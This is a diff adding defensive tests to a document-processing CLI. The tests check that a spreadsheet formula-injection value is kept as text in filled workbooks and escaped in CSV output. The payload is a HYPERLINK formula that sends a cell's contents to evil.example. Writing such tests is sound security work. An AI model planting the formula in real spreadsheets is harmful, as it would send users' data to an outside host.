@@ -734,3 +734,49 @@ def test_bundle_refuses_a_hostile_word_attachment_before_libreoffice(
     out = tmp_path / "out"
     run = run_cli("bundle", pep, attachment, "-o", out / "bundle.pdf")
     _assert_refused(run, attachment, item.problem, out)
+
+
+# -- formula injection: values written into spreadsheets ----------------------------------------
+
+_FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def test_a_formula_typed_in_a_pep_is_text_in_a_filled_workbook(
+    run_cli: Callable[..., Run], tmp_path: Path
+) -> None:
+    import openpyxl
+
+    pep = corpus.distinctive_pep()
+    pep["meta"]["authority"] = "southvale"
+    pep["views"]["child"] = _FORMULA
+    source = tmp_path / "pep.json"
+    source.write_text(json.dumps(pep), encoding="utf-8")
+    target = tmp_path / "filled.xlsx"
+    run = run_cli("fill", source, "-a", "southvale", "-o", target)
+    assert run.code == 0, run.err
+    book = openpyxl.load_workbook(target)
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    holding = [
+        cell for cell in cells if isinstance(cell.value, str) and "evil.example" in cell.value
+    ]
+    assert holding, "the view was written somewhere"
+    assert all(cell.data_type == "s" for cell in holding)
+
+
+def test_a_formula_typed_in_a_form_is_neutralised_in_convert_tables(
+    run_cli: Callable[..., Run], tmp_path: Path
+) -> None:
+    pep = corpus.distinctive_pep()
+    pep["views"]["child"] = _FORMULA
+    source = tmp_path / "pep.json"
+    source.write_text(json.dumps(pep), encoding="utf-8")
+    legacy = tmp_path / "legacy"
+    legacy.mkdir()
+    assert run_cli("fill", source, "-a", "eastborough", "-o", legacy / "form.docx").code == 0
+    out = tmp_path / "out"
+    run = run_cli("convert", legacy, "--out", out, "--format", "csv")
+    assert run.code == 0, run.err
+    table = (out / "peps.csv").read_text(encoding="utf-8-sig")
+    assert "evil.example" in table
+    assert ",=HYPERLINK" not in table and ',"=HYPERLINK' not in table
+    assert "'=HYPERLINK" in table
